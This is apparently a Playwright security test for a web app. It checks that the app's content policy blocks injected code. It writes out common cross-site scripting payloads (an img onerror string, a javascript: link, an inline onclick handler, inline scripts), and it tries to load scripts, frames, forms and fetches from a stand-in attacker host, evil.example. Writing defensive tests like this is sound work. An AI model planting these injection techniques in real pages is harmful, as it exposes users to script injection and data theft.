/**
 * The content policy stops what an injected script would try (build-plugins/security-headers.ts).
 */
import { expect, type Page } from '@playwright/test'
import { liveTest } from './support/app'

/** Tries attacks, and returns those that ran. */
async function attack(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const ran: string[] = []
    Object.assign(window, { ran })
    // Code run by the driver may evaluate text: leave it first.
    await new Promise((resolve) => setTimeout(resolve))
    const attempt = (name: string, work: () => void) => {
      try {
        work()
      } catch (error) {
        if (!(error instanceof TypeError || error instanceof EvalError)) ran.push(name)
      }
    }
    const append = (tag: string, properties: object) =>
      document.body.append(Object.assign(document.createElement(tag), properties))

    attempt('eval', () => {
      const evaluate = Reflect.get(window, 'eval') as (text: string) => void
      evaluate('ran.push("eval")')
    })
    attempt('innerHTML', () => {
      const host = document.createElement('div')
      host.innerHTML = '<img src="x" onerror="ran.push(\'innerHTML\')">'
      document.body.append(host)
    })
    attempt('inline script', () => append('script', { text: 'ran.push("inline script")' }))
    attempt('foreign script', () => append('script', { src: 'https://evil.example/x.js' }))
    attempt('policy', () => {
      window.trustedTypes?.createPolicy('mine', { createScriptURL: (url) => url })
      ran.push('policy')
    })
    attempt('handler', () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'ran.push("handler")')
      document.body.append(button)
      button.click()
    })
    attempt('javascript link', () => {
      const link = document.createElement('a')
      link.href = 'javascript:ran.push("link")'
      document.body.append(link)
      link.click()
    })
    attempt('frame', () => append('iframe', { src: 'https://evil.example/' }))
    attempt('base', () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
      if (document.baseURI.includes('evil')) ran.push('base')
    })
    attempt('style', () => {
      const style = document.createElement('style')
      style.textContent = 'body { --evil: yes }'
      document.head.append(style)
      if (getComputedStyle(document.body).getPropertyValue('--evil') !== '') ran.push('style')
    })
    attempt('form', () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    })
    await fetch('https://evil.example/').then(
      () => ran.push('fetch'),
      () => undefined,
    )
    await new Promise((resolve) => setTimeout(resolve, 500))
    return ran
  })
}

const directives = [
  'script-src',
  'require-trusted-types-for',
  'trusted-types',
  'default-src',
  'base-uri',
  'style-src',
  'form-action',
  'connect-src',
]

liveTest('runs no injected code, and sends nothing elsewhere', async ({ page, violations }) => {
  await page.goto('/help/support')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect(violations).toEqual([])
  expect(await attack(page)).toEqual([])
  const told = violations.splice(0).join('\n')
  for (const directive of directives) expect(told).toContain(directive)
})
